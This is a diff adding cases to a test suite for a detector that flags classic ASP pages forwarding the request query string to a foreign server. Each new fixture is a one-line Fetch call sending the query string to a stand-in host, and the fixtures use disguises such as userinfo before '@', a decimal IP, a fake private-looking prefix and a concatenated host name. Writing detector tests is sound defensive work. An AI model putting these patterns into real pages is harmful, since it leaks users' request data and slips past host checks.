@@ -55,6 +55,35 @@ testDetector(detector, {
       detections: [{ message: 'relayed', at: { label: 'sink', line: 3 }, severity: 'medium' }],
     },
     {
+      name: 'a foreign server behind a name of the own network',
+      input: classicPage(
+        'Response.Write Fetch("http://maps.corp:x@a.invalid/p?" & Request.ServerVariables("QUERY_STRING"))',
+        ...FETCH,
+      ),
+      detections: [{ message: 'relayed', at: { label: 'sink', line: 2 }, severity: 'medium' }],
+    },
+    {
+      name: 'a foreign server by its address as one number',
+      input: classicPage(
+        'Response.Write Fetch("http://3405803782/p?" & Request.ServerVariables("QUERY_STRING"))',
+        ...FETCH,
+      ),
+      detections: [{ message: 'relayed', at: { label: 'sink', line: 2 }, severity: 'medium' }],
+    },
+    {
+      name: 'a foreign server that begins like a private address',
+      input: classicPage(
+        'Response.Write Fetch("http://10.0.a.invalid/p?" & Request.ServerVariables("QUERY_STRING"))',
+        ...FETCH,
+      ),
+      detections: [{ message: 'relayed', at: { label: 'sink', line: 2 }, severity: 'medium' }],
+    },
+    {
+      name: 'a name of the own network that the request goes on with',
+      input: classicPage('Response.Write Fetch("http://maps" & Request.ServerVariables("QUERY_STRING"))', ...FETCH),
+      detections: [{ message: 'relayed', at: { label: 'sink', line: 2 }, severity: 'medium' }],
+    },
+    {
       name: 'the whole query goes to a foreign server, in pieces',
       input: classicPage(
         'host = "ht" & "tp://a.invalid"',
